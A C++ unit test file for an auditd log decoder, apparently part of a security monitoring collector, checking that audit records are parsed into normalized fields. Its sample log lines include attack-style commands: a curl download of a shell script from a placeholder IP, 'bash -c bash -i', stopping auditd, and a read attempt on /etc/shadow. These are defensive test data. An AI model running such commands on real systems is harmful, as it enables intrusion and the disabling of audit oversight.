#include "collector/decode/auditd.h"

#include <gtest/gtest.h>

#include <optional>
#include <string>

#include "tests/unit/decode/test_support.h"

namespace soc {
namespace {

using test::at;
using test::Decoded;
using test::Opt;

Decoded decode(std::string_view line) {
  return test::decoded_by(decode_auditd, line);
}

TEST(DecodeAuditd, SyscallRecord) {
  const auto d = decode(
      "type=SYSCALL msg=audit(1700000000.123:456): arch=c000003e syscall=59 success=yes exit=0 "
      "a0=55d5c2a0 a1=55d5c2b0 a2=55d5c2c0 a3=0 items=2 ppid=2210 pid=2245 auid=1000 uid=0 gid=0 "
      "euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"curl\" "
      "exe=\"/usr/bin/curl\" subj=unconfined key=\"susp_download\"");
  const Fields& f = d.f;
  EXPECT_EQ(f.get("auditd.type"), "SYSCALL");
  EXPECT_EQ(f.get("auditd.id"), "456");
  EXPECT_EQ(f.get("auditd.key"), "susp_download");
  EXPECT_EQ(f.get("auditd.session"), "3");
  EXPECT_EQ(f.get("auditd.data.syscall"), "59");
  EXPECT_EQ(f.get("auditd.data.a0"), "55d5c2a0");  // registers are not arguments
  EXPECT_EQ(f.get("process.executable"), "/usr/bin/curl");
  EXPECT_EQ(f.get("process.name"), "curl");
  EXPECT_EQ(f.get("process.pid"), "2245");
  EXPECT_EQ(f.get("process.parent.pid"), "2210");
  EXPECT_EQ(f.get("process.tty.name"), "pts0");
  EXPECT_EQ(f.get("user.id"), "0");
  EXPECT_EQ(f.get("user.audit.id"), "1000");
  EXPECT_EQ(f.get("user.effective.id"), "0");
  EXPECT_EQ(f.get("group.id"), "0");
  EXPECT_EQ(f.get("event.outcome"), "success");
  EXPECT_EQ(d.time, at("2023-11-14T22:13:20.123Z"));
}

TEST(DecodeAuditd, ExecveArgumentsAreDecodedAndJoined) {
  const auto d = decode(
      "type=EXECVE msg=audit(1700000000.123:456): argc=4 a0=\"curl\" a1=\"-o\" "
      "a2=2F746D702F782E7368 a3=\"http://203.0.113.9/x.sh\"");
  EXPECT_EQ(d.f.get("process.command_line"), "curl -o /tmp/x.sh http://203.0.113.9/x.sh");
  EXPECT_EQ(d.f.get("process.args_count"), "4");
  EXPECT_EQ(d.f.get("auditd.data.a0"), "curl");
  EXPECT_EQ(d.f.get("auditd.data.a2"), "/tmp/x.sh");

  // An argument with a space is hex; a long one comes in pieces after aN_len.
  const auto e = decode(
      "type=EXECVE msg=audit(1700000001.000:457): argc=3 a0=\"bash\" a1=\"-c\" a2=62617368202D69");
  EXPECT_EQ(e.f.get("process.command_line"), "bash -c bash -i");
  const auto g = decode(
      "type=EXECVE msg=audit(1700000001.000:458): argc=2 a0=\"python3\" a1_len=6 a1[0]=2D63 "
      "a1[1]=20783D31");
  EXPECT_EQ(g.f.get("process.command_line"), "python3 -c x=1");
}

TEST(DecodeAuditd, ProctitlePathCwd) {
  const auto p = decode(
      "type=PROCTITLE msg=audit(1700000000.123:456): proctitle=6375726C002D6F002F746D702F782E7368");
  EXPECT_EQ(p.f.get("process.title"), "curl -o /tmp/x.sh");
  EXPECT_EQ(p.f.get("process.command_line"), Opt());

  const auto path = decode(
      "type=PATH msg=audit(1700000000.123:456): item=0 name=\"/usr/bin/curl\" inode=1234 "
      "dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0");
  EXPECT_EQ(path.f.get("file.path"), "/usr/bin/curl");
  EXPECT_EQ(path.f.get("auditd.data.nametype"), "NORMAL");
  const auto hex = decode(
      "type=PATH msg=audit(1700000000.123:456): item=1 name=2F746D702F782E7368 nametype=CREATE");
  EXPECT_EQ(hex.f.get("file.path"), "/tmp/x.sh");
  const auto none = decode("type=PATH msg=audit(1700000000.123:456): item=1 name=(null)");
  EXPECT_EQ(none.f.get("file.path"), Opt());

  const auto cwd = decode("type=CWD msg=audit(1700000000.123:456): cwd=\"/root\"");
  EXPECT_EQ(cwd.f.get("process.working_directory"), "/root");
}

TEST(DecodeAuditd, UserRecordsReadTheInnerMessage) {
  const auto login = decode(
      "type=USER_LOGIN msg=audit(1700000100.456:789): pid=3100 uid=0 auid=4294967295 "
      "ses=4294967295 subj=unconfined msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" "
      "hostname=? addr=203.0.113.7 terminal=sshd res=failed'");
  EXPECT_EQ(login.f.get("auditd.type"), "USER_LOGIN");
  EXPECT_EQ(login.f.get("event.action"), "login");
  EXPECT_EQ(login.f.get("user.name"), "root");
  EXPECT_EQ(login.f.get("user.audit.id"), Opt());  // unset
  EXPECT_EQ(login.f.get("auditd.session"), Opt());
  EXPECT_EQ(login.f.get("source.ip"), "203.0.113.7");
  EXPECT_EQ(login.f.get("source.domain"), Opt());
  EXPECT_EQ(login.f.get("process.executable"), "/usr/sbin/sshd");
  EXPECT_EQ(login.f.get("event.outcome"), "failure");

  const auto auth = decode(
      "type=USER_AUTH msg=audit(1700000100.456:790): pid=3100 uid=0 auid=4294967295 "
      "ses=4294967295 msg='op=PAM:authentication grantors=? acct=28696E76616C6964207573657229 "
      "exe=\"/usr/sbin/sshd\" hostname=203.0.113.7 addr=203.0.113.7 terminal=ssh res=failed'");
  EXPECT_EQ(auth.f.get("event.action"), "PAM:authentication");
  EXPECT_EQ(auth.f.get("user.name"), "(invalid user)");
  EXPECT_EQ(auth.f.get("auditd.data.grantors"), "?");

  const auto cmd = decode(
      "type=USER_CMD msg=audit(1700000200.000:801): pid=4001 uid=1000 auid=1000 ses=3 "
      "msg='cwd=\"/home/alice\" cmd=73797374656D63746C2073746F7020617564697464 "
      "exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'");
  EXPECT_EQ(cmd.f.get("process.command_line"), "systemctl stop auditd");
  EXPECT_EQ(cmd.f.get("process.working_directory"), "/home/alice");
  EXPECT_EQ(cmd.f.get("process.tty.name"), "pts/0");
  EXPECT_EQ(cmd.f.get("event.outcome"), "success");
}

TEST(DecodeAuditd, AccountConfigAndServiceRecords) {
  const auto add = decode(
      "type=ADD_USER msg=audit(1700000300.000:900): pid=5000 uid=0 auid=1000 ses=3 "
      "msg='op=add-user acct=\"bob\" exe=\"/usr/sbin/useradd\" hostname=web01 addr=? "
      "terminal=pts/0 res=success'");
  EXPECT_EQ(add.f.get("event.action"), "add-user");
  EXPECT_EQ(add.f.get("user.name"), "bob");
  EXPECT_EQ(add.f.get("source.domain"), "web01");

  const auto cfg = decode(
      "type=CONFIG_CHANGE msg=audit(1700000400.000:950): auid=1000 ses=3 op=remove_rule "
      "key=\"exec\" list=4 res=1");
  EXPECT_EQ(cfg.f.get("auditd.type"), "CONFIG_CHANGE");
  EXPECT_EQ(cfg.f.get("event.action"), "remove_rule");
  EXPECT_EQ(cfg.f.get("auditd.key"), "exec");
  EXPECT_EQ(cfg.f.get("event.outcome"), "success");

  const auto stop = decode(
      "type=SERVICE_STOP msg=audit(1700000500.000:990): pid=1 uid=0 auid=4294967295 "
      "ses=4294967295 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
      "hostname=? addr=? terminal=? res=success'");
  EXPECT_EQ(stop.f.get("service.name"), "auditd");
  EXPECT_EQ(stop.f.get("source.ip"), Opt());
  EXPECT_EQ(stop.f.get("process.tty.name"), Opt());
}

TEST(DecodeAuditd, KernelLineNodeAndEnrichedTail) {
  const auto avc = decode(
      "audit: type=1400 audit(1700000200.789:120): apparmor=\"DENIED\" operation=\"open\" "
      "profile=\"/usr/sbin/tcpdump\" name=\"/etc/shadow\" pid=777 comm=\"tcpdump\" "
      "requested_mask=\"r\" denied_mask=\"r\" fsuid=0 ouid=0");
  EXPECT_EQ(avc.f.get("auditd.type"), "AVC");
  EXPECT_EQ(avc.f.get("auditd.id"), "120");
  EXPECT_EQ(avc.f.get("auditd.data.apparmor"), "DENIED");
  EXPECT_EQ(avc.f.get("file.path"), "/etc/shadow");
  EXPECT_EQ(avc.f.get("process.name"), "tcpdump");
  EXPECT_EQ(avc.time, at("2023-11-14T22:16:40.789Z"));
  // Numeric types of kernel lines are named, as auditd names them in audit.log.
  const auto prom = decode(
      "audit: type=1700 audit(1700000200.790:121): dev=eth0 prom=256 old_prom=0 auid=1000 uid=0 "
      "gid=0 ses=3");
  EXPECT_EQ(prom.f.get("auditd.type"), "ANOM_PROMISCUOUS");
  const auto mac =
      decode("audit: type=1404 audit(1700000200.791:122): enforcing=0 old_enforcing=1");
  EXPECT_EQ(mac.f.get("auditd.type"), "MAC_STATUS");

  const auto node = decode(
      "node=web01 type=SYSCALL msg=audit(1700000000.5:7): syscall=59 success=no exit=-13 "
      "auid=1000 uid=1000 comm=\"cat\" exe=\"/usr/bin/cat\" key=(null)\x1d"
      "ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"alice\" GID=\"staff\" EUID=\"alice\"");
  EXPECT_EQ(node.f.get("auditd.node"), "web01");
  EXPECT_EQ(node.f.get("auditd.key"), Opt());
  EXPECT_EQ(node.f.get("event.outcome"), "failure");
  EXPECT_EQ(node.f.get("user.audit.name"), "alice");
  EXPECT_EQ(node.f.get("user.name"), "alice");
  EXPECT_EQ(node.f.get("group.name"), "staff");
  EXPECT_EQ(node.f.get("auditd.data.ARCH"), Opt());
  EXPECT_EQ(node.f.get("auditd.data.SYSCALL"), "execve");  // Sigma's auditd rules match it
  EXPECT_EQ(node.time, at("2023-11-14T22:13:20.5Z"));
}

TEST(DecodeAuditd, SeveralKeysAndUnknownTypes) {
  const auto d = decode(
      "type=SYSCALL msg=audit(1700000000.123:456): syscall=2 success=yes "
      "key=6578656301707269765F657363");
  EXPECT_EQ(d.f.get("auditd.key"), "exec,priv_esc");
  const auto u = decode("type=1999 audit(1700000000.123:456): foo=bar");
  EXPECT_EQ(u.f.get("auditd.type"), "1999");
  EXPECT_EQ(u.f.get("auditd.data.foo"), "bar");
}

TEST(DecodeAuditd, DataFieldsAreBounded) {
  std::string line = "type=SYSCALL msg=audit(1700000000.123:456):";
  for (int i = 0; i < 200; ++i) line += " k" + std::to_string(i) + "=v";
  const auto d = decode(line);
  EXPECT_LE(d.f.all().size(), 40u);
  std::string args = "type=EXECVE msg=audit(1700000000.123:456): argc=100";
  for (int i = 0; i < 100; ++i) args += " a" + std::to_string(i) + "=\"x\"";
  args += " a99999999999=\"far\"";
  const auto e = decode(args);
  EXPECT_EQ(e.f.get("process.command_line")->size(), 199u);
  EXPECT_EQ(e.f.get("auditd.data.a16"), Opt());
}

TEST(DecodeAuditd, MalformedRecordsAreNotDecoded) {
  for (std::string_view m : {
           "type=SYSCALL",
           "type=SYSCALL msg=audit(",
           "type=SYSCALL msg=audit(abc:1): x=y",
           "type=SYSCALL msg=audit(1700000000.123): x=y",
           "type=SYSCALL msg=audit(1700000000.123:): x=y",
           "type=SYSCALL msg=audit(1700000000.1x3:4): x=y",
           "type=SYSCALL msg=audit(99999999999999999999.1:2): x=y",
           "type=SYSCALL msg=audit(9999999999.1:2): x=y",
           "type= msg=audit(1700000000.1:2): x=y",
           "msg=audit(1700000000.1:2): x=y",
           "node= type=SYSCALL msg=audit(1700000000.1:2): x=y",
           "audit: something else",
           "",
       }) {
    Fields f;
    std::optional<SysTime> t;
    EXPECT_FALSE(decode_auditd(m, f, t)) << m;
    EXPECT_TRUE(f.all().empty()) << m;
    EXPECT_FALSE(t.has_value()) << m;
  }
}

TEST(DecodeAuditd, OddValuesDoNotBreakTheRecord) {
  // Unterminated quotes, odd-length hex, '=' without key, a bare word.
  const auto d =
      decode("type=EXECVE msg=audit(1700000000.123:456): argc=2 a0=ABC =x DF a1=\"unterminated");
  EXPECT_EQ(d.f.get("process.command_line"), "ABC unterminated");
}

}  // namespace
}  // namespace soc
